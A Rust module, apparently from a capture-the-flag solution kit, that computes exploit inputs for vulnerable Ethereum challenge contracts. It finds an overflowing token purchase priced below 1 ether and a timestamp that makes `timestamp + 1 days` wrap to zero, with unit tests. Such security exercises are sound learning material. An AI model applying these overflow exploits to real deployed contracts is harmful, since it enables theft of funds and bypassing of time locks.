//! 256-bit wraparound arithmetic for the math challenges.

use alloy_primitives::{U256, U512};
use eyre::{ensure, Result};

/// One day in seconds.
pub const ONE_DAY_SECS: u64 = 24 * 60 * 60;

/// A token purchase: the quantity passed to `buy` and the wei the vulnerable
/// contract will demand for it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Purchase {
    pub quantity: U256,
    pub payment: U256,
}

fn one_ether_wide() -> U512 {
    U512::from(10u64).pow(U512::from(18u64))
}

fn two_pow_256() -> U512 {
    U512::from(1u64) << 256
}

/// The purchase that realises a raw token value of at least `x` in the token
/// sale.
///
/// The contract charges `quantity * 10^18 mod 2^256`. Integer division cuts
/// the remainder of `x / 10^18`, so one extra token covers it; the resulting
/// payment is the product reduced mod 2^256. `x` must be at least 2^256 for
/// the multiplication to overflow at all, hence the widened input.
pub fn purchase_for(x: U512) -> Purchase {
    let quantity = x / one_ether_wide() + U512::from(1u64);
    let payment = (quantity * one_ether_wide()) % two_pow_256();
    Purchase { quantity: quantity.to::<U256>(), payment: payment.to::<U256>() }
}

/// Searches the multiplier schedule for the cheapest overflowing purchase.
///
/// Candidates are `x = 2^256 * 3^i` for i >= 2: 10^18 factors as 2^18 * 5^18,
/// so stepping by the coprime 3 cycles through usefully different residues.
/// The walk stops once the implied quantity no longer fits a `uint256`
/// (it could not be passed to `buy` anymore). The winner must come in under
/// the 1 ether a single token is supposed to cost.
pub fn cheapest_overflowing_purchase() -> Result<Purchase> {
    let mut best: Option<Purchase> = None;
    let mut multiplier = U512::from(3u64);
    loop {
        multiplier *= U512::from(3u64);
        let x = two_pow_256() * multiplier;
        if x / one_ether_wide() + U512::from(1u64) >= two_pow_256() {
            break;
        }
        let candidate = purchase_for(x);
        if best.is_none_or(|best| candidate.payment < best.payment) {
            best = Some(candidate);
        }
    }
    let best = best.expect("the first multiplier always fits a uint256");
    ensure!(
        best.payment < crate::utils::ether(1),
        "no candidate cheaper than the nominal token price"
    );
    Ok(best)
}

/// Timestamp that makes the fifty-years contract's `timestamp + 1 days`
/// wrap to zero: `2^256 - 1 days`.
pub fn day_wrapping_timestamp() -> U256 {
    U256::ZERO.wrapping_sub(U256::from(ONE_DAY_SECS))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::utils::ether;
    use std::str::FromStr;

    #[test]
    fn minimal_overflow_purchase_at_two_pow_256() {
        // floor(2^256 / 10^18) + 1 tokens; the payment is
        // 10^18 - (2^256 mod 10^18) = 0.415992086870360064 ether.
        let purchase = purchase_for(two_pow_256());
        assert_eq!(
            purchase.quantity,
            U256::from_str("115792089237316195423570985008687907853269984665640564039458")
                .unwrap()
        );
        assert_eq!(purchase.payment, U256::from(415_992_086_870_360_064u64));
    }

    #[test]
    fn payment_is_quantity_times_price_mod_2_256() {
        let purchase = cheapest_overflowing_purchase().unwrap();
        let price = U256::from(10u64).pow(U256::from(18u64));
        assert_eq!(purchase.payment, purchase.quantity.wrapping_mul(price));
        assert!(purchase.payment < ether(1));
    }

    #[test]
    fn search_result_is_minimal_over_schedule() {
        let best = cheapest_overflowing_purchase().unwrap();
        let mut multiplier = U512::from(9u64);
        loop {
            let x = two_pow_256() * multiplier;
            if x / one_ether_wide() + U512::from(1u64) >= two_pow_256() {
                break;
            }
            assert!(best.payment <= purchase_for(x).payment);
            multiplier *= U512::from(3u64);
        }
    }

    #[test]
    fn day_wrap_cancels_one_day() {
        let ts = day_wrapping_timestamp();
        assert_eq!(ts.wrapping_add(U256::from(ONE_DAY_SECS)), U256::ZERO);
    }
}
